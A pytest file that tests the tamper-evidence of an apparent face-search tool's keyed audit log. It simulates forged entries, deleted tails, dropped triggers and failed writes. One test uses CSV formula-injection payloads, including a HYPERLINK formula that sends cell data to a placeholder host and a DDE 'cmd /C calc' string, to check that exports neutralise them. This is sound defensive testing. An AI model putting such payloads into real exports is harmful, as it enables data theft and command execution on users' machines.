"""The keyed audit chain (issue 13 #6, #19): forgeries by someone who can write the database but not read the
key, a deleted tail with its checkpoint, dropped triggers, failed writes, and formula cells in CSV exports."""

from __future__ import annotations

import csv
import io
import json
import stat
import time
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event, text
from sqlalchemy.exc import DatabaseError
from typer.testing import CliRunner

from facesearch.app.context import Context
from facesearch.cli import app as cli_app
from facesearch.config import Settings
from facesearch.store import Store, audit
from facesearch.store.audit import AuditEntry
from facesearch.vocabulary import Action


def _entries(log: audit.AuditLog, n: int, start: int = 0) -> None:
    for i in range(start, start + n):
        log.record(
            Action.SEARCH,
            actor="ann",
            role="examiner",
            case_ref=f"CASE-{i}",
            purpose="lead",
            results=[{"face_id": i, "score": 0.5}],
        )


def _raw(store: Store, *sql: str, **params: Any) -> None:
    """An attacker with write access to the database file (not to the rest of the home)."""
    with store.database.begin() as conn:
        conn.execute(text("DROP TRIGGER IF EXISTS audit_log_no_update"))
        conn.execute(text("DROP TRIGGER IF EXISTS audit_log_no_delete"))
        for statement in sql:
            conn.execute(text(statement), params)


def _forge_append(store: Store) -> None:
    """Append an entry with a correct link and a recomputed (plain) hash, as the 0.2.0 chain allowed."""
    with store.session() as s:
        tail = s.scalars(text("SELECT seq FROM audit_log ORDER BY seq DESC LIMIT 1")).one()
        last = s.get(AuditEntry, tail)
        assert last is not None
        fields = {k: None for k in audit.FIELDS}
        fields.update(
            seq=last.seq + 1,
            ts=audit.now_iso(),
            actor="mallory",
            role="admin",
            action="login",
            outcome="ok",
            prev_hash=last.hash,
        )
    fields["hash"] = audit.entry_hash(fields)
    cols = ", ".join(fields)
    _raw(store, f"INSERT INTO audit_log ({cols}) VALUES ({', '.join(':' + k for k in fields)})", **fields)


@pytest.fixture
def log(home: Path) -> audit.AuditLog:
    home.mkdir(parents=True, exist_ok=True)
    store = Store(f"sqlite:///{home / 'facesearch.db'}")
    log = audit.AuditLog(store, home / audit.HEAD_FILE)
    _entries(log, 5)
    return log


def test_the_key_is_created_on_first_use_private_and_outside_the_database(log: audit.AuditLog, home: Path) -> None:
    key_file = home / audit.KEY_FILE
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    key = audit.read_key(key_file)
    assert key is not None and key.from_seq == 1 and len(key.secret) == 32
    entries, _ = audit.query(log.store)
    # A fresh home is keyed from its first entry: no plain hash anywhere, no marker entry needed.
    assert all(e["action"] == Action.SEARCH.value for e in entries)
    row = {k: entries[-1][k] for k in audit.FIELDS}
    for k in audit.JSON_FIELDS:
        row[k] = audit.canonical_json(row[k]) if row[k] is not None else None
    assert entries[-1]["hash"] == audit.entry_hash(row, key.secret) != audit.entry_hash(row)
    assert audit.verify_chain(log.store, log.head_path).ok


def test_an_appended_entry_with_a_recomputed_hash_is_caught(log: audit.AuditLog, home: Path) -> None:
    # The checkpoint lags by one, as it would after a crash: only the key tells the forgery apart.
    _forge_append(log.store)
    report = audit.verify_chain(log.store, log.head_path)
    assert not report.ok and any("entry 6" in p and "without the audit key" in p for p in report.problems)
    r = CliRunner().invoke(cli_app, ["audit", "verify"], env={"FACESEARCH_HOME": str(home)})
    assert r.exit_code == 1 and "entry 6" in r.output


def test_deleting_the_tail_together_with_the_checkpoint_is_caught(log: audit.AuditLog, home: Path) -> None:
    _raw(log.store, "DELETE FROM audit_log WHERE seq >= 4")
    (home / audit.HEAD_FILE).unlink()
    report = audit.verify_chain(log.store, log.head_path)
    assert not report.ok and any("checkpoint" in p and "missing" in p for p in report.problems)
    # An empty log without a checkpoint is a new home, not a failure (a new home has no audit key yet).
    (home / "new").mkdir()
    assert audit.verify_chain(Store(f"sqlite:///{home / 'new' / 'other.db'}"), home / "new" / "absent.json").ok


def test_a_home_from_0_2_0_is_keyed_from_the_point_the_key_appears(home: Path) -> None:
    home.mkdir(parents=True, exist_ok=True)
    store = Store(f"sqlite:///{home / 'facesearch.db'}")
    old = audit.AuditLog(store, home / audit.HEAD_FILE, key_path=home / "no-key-in-0.2.0")
    old.key_path = None  # 0.2.0: plain SHA-256 entries and a checkpoint, no key
    _entries(old, 3)
    assert not (home / audit.KEY_FILE).exists()
    new = audit.AuditLog(store, home / audit.HEAD_FILE)
    _entries(new, 2, start=3)
    key = audit.read_key(home / audit.KEY_FILE)
    assert key is not None and key.from_seq == 4
    marker = audit.query(store, action=Action.AUDIT_KEY.value)[0]
    assert len(marker) == 1 and marker[0]["seq"] == 4 and marker[0]["details"] == {"from_seq": 4, "plain_until": 3}
    report = audit.verify_chain(store, home / audit.HEAD_FILE)
    assert report.ok and report.entries == 6
    # The plain part is still checked, and anchored by the keyed part's first link.
    _raw(store, "UPDATE audit_log SET case_ref = 'X' WHERE seq = 2")
    report = audit.verify_chain(store, home / audit.HEAD_FILE)
    assert not report.ok and any("entry 2" in p for p in report.problems)


def test_a_lost_key_is_reported_and_a_new_one_says_so(log: audit.AuditLog, home: Path) -> None:
    (home / audit.KEY_FILE).unlink()
    report = audit.verify_chain(log.store, log.head_path)
    assert not report.ok and any("audit.key" in p for p in report.problems)
    fresh = audit.AuditLog(log.store, log.head_path)
    _entries(fresh, 1, start=9)
    marker = audit.query(log.store, action=Action.AUDIT_KEY.value)[0]
    assert marker[0]["outcome"] == "warning" and marker[0]["details"]["previous_key"] == "missing"
    report = audit.verify_chain(log.store, log.head_path)
    assert not report.ok and any("entries 1..5" in p and "lost or replaced" in p for p in report.problems)


def test_dropped_triggers_are_restored_when_the_home_is_opened(synthetic_env: Path) -> None:
    ctx = Context.open(Settings())
    _entries(ctx.audit, 2)
    with ctx.store.database.begin() as conn:
        conn.execute(text("DROP TRIGGER audit_log_no_update"))
        conn.execute(text("DROP TRIGGER audit_log_no_delete"))
    ctx.store.close()
    again = Context.open(Settings())
    warning = audit.query(again.store, action=Action.AUDIT_TRIGGERS.value)[0]
    assert len(warning) == 1 and warning[0]["outcome"] == "warning"
    assert sorted(warning[0]["details"]["restored"]) == ["audit_log_no_delete", "audit_log_no_update"]
    with pytest.raises(DatabaseError, match="append-only"), again.store.database.begin() as conn:
        conn.execute(text("DELETE FROM audit_log WHERE seq = 1"))
    assert audit.verify_chain(again.store, again.audit.head_path).ok
    # Nothing to restore: no second warning.
    Context.open(Settings())
    assert audit.query(again.store, action=Action.AUDIT_TRIGGERS.value)[1] == 1


def _fill_up(store: Store) -> None:
    """A full disk, as SQLite sees one: the database may not grow by a single page."""

    def cap(dbapi_conn: Any, _record: Any) -> None:
        cur = dbapi_conn.cursor()
        pages = cur.execute("PRAGMA page_count").fetchone()[0]
        cur.execute(f"PRAGMA max_page_count = {pages}")
        cur.close()

    event.listen(store.database, "connect", cap)
    store.database.dispose()


def test_a_failed_write_raises_at_once_and_is_never_swallowed(log: audit.AuditLog) -> None:
    _fill_up(log.store)
    started = time.monotonic()
    with pytest.raises(audit.AuditWriteError, match="full") as err:
        for i in range(200):  # free pages absorb a few entries; the file cannot grow
            log.record(Action.SEARCH, actor="ann", case_ref="CASE-SECRET", results=[{"face_id": i, "x": "y" * 500}])
    assert time.monotonic() - started < 10  # not retried 50 times like a lost race
    assert "CASE-SECRET" not in str(err.value) and "face_id" not in str(err.value)


def test_a_checkpoint_that_cannot_be_written_fails_the_entry(log: audit.AuditLog, home: Path) -> None:
    broken = audit.AuditLog(log.store, home / "gone" / audit.HEAD_FILE, key_path=home / audit.KEY_FILE)
    with pytest.raises(audit.AuditWriteError, match="checkpoint"):
        broken.record(Action.LOGIN, actor="ann")


def test_csv_export_neutralises_formula_cells(log: audit.AuditLog, home: Path) -> None:
    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
    for ref in evil:
        log.record(Action.SEARCH, actor="ann", role="examiner", case_ref=ref, purpose="=cmd|' /C calc'!A0")
    text_ = audit.export(log.store, "csv")
    rows = list(csv.DictReader(io.StringIO(text_)))
    refs = [r["case_ref"] for r in rows[-len(evil) :]]
    assert refs == ["'" + e for e in evil]
    assert all(r["purpose"] == "'=cmd|' /C calc'!A0" for r in rows[-len(evil) :])
    # Numbers and JSON cells are left alone.
    assert rows[0]["seq"] == "1" and rows[0]["results"].startswith("[")
    # JSON keeps the values exactly as logged.
    data = json.loads(audit.export(log.store, "json"))
    assert [e["case_ref"] for e in data["entries"][-len(evil) :]] == evil
